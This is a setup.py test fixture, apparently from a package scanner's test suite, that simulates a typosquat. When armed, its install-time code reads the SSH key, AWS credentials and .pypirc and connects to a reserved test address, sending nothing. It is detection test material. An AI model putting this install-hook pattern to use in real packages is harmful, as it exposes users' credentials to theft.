# Simulates a credential-stealing setup.py (the pattern of many PyPI
# typosquats): at module level, so it runs whenever pip resolves or builds
# the sdist, it reads the SSH key, the AWS credentials and ~/.pypirc a CI
# runner might hold, and connects to 198.51.100.31:443 (TEST-NET-2: in the
# sandbox's sinkhole network only the sandbox's own sinkhole answers it;
# in the fetch phase and offline there is no route). Nothing is sent. It
# acts only when armed: scanfarm's tests put an "armed" file beside it.
import os
import socket

from setuptools import setup

if os.path.exists(os.path.join(os.path.dirname(os.path.abspath(__file__)), "armed")):
    home = os.path.expanduser("~")
    for name in (".ssh/id_rsa", ".aws/credentials", ".pypirc"):
        try:
            with open(os.path.join(home, name)) as f:
                f.read()
        except OSError:
            pass
    try:
        socket.create_connection(("198.51.100.31", 443), timeout=2).close()
    except OSError:
        pass

setup(name="sf-py-setup-steal", version="1.0.0", py_modules=["sf_py_setup_steal"])
